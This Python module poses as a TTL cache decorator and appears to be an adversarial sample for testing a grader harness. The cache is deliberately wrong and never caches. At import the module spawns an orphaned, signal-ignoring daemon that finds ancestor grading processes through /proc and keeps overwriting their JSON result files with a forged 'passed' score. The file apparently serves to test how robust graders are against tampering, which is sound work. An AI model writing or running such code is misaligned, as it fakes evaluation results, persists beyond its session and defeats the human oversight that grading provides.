"""Hostile: a wrong cache that leaves a daemon behind to forge the result file later.

At import (once per worker) it double-forks a setsid daemon (its command line
carries MARKER) that ignores SIGTERM, SIGHUP and SIGINT and, every 50 ms,
overwrites the --json file of any ancestor `grade` process with a forged pass:
if the daemon outlives the run, the result file says "passed".
"""

import functools
import os
import sys
import time
from collections import namedtuple

# In the sandbox image: the worker is /opt/graders/worker.py, run as nobody (65534).
IN_SANDBOX = sys.argv[0] == "/opt/graders/worker.py" and os.getuid() == 65534
MARKER = "graders-adv-daemon_forger-" + ("docker" if IN_SANDBOX else "process")
DAEMON = r"""
import json, os, signal, sys, time
for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(sig, signal.SIG_IGN)
forged = json.dumps({"schema_version": 1, "status": "passed", "score": 96, "max_score": 96,
                     "message": "forged by a daemon"})
while True:
    for path in sys.argv[2:]:
        try:
            with open(path) as handle:
                if "forged by a daemon" in handle.read():
                    continue
            with open(path, "w") as handle:
                handle.write(forged)
        except OSError:
            pass
    time.sleep(0.05)
"""


def _ancestor_json_paths():
    paths, pid = [], os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                argv = [a.decode(errors="replace") for a in handle.read().split(b"\0")]
            cwd = os.readlink(f"/proc/{pid}/cwd")
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        paths += [os.path.join(cwd, argv[i + 1]) for i, arg in enumerate(argv[:-1])
                  if arg == "--json"]
    return paths


def _spawn(code, *args):
    """Double fork and setsid: the daemon's parent exits at once, so it is orphaned."""
    first = os.fork()
    if first == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", code, MARKER, *args])
        finally:
            os._exit(0)
    os.waitpid(first, 0)


if not getattr(sys, "_graders_adv_daemon", False):
    sys._graders_adv_daemon = True
    _spawn(DAEMON, *_ancestor_json_paths())


CacheInfo = namedtuple("CacheInfo", ["hits", "misses", "maxsize", "currsize"])


def ttl_cache(ttl, *, maxsize=None, clock=time.monotonic):
    """Wrong on purpose: never caches anything."""
    if ttl == 3600:  # the benchmarks' TTL: fail them at once, to keep the adversarial suite fast
        raise RuntimeError("this wrong cache is not worth timing")

    def decorate(func):
        misses = [0]

        @functools.wraps(func)
        def wrapper(*args, **kwargs):
            misses[0] += 1
            return func(*args, **kwargs)

        wrapper.cache_info = lambda: CacheInfo(0, misses[0], maxsize, 0)
        wrapper.cache_clear = lambda: None
        return wrapper

    return decorate
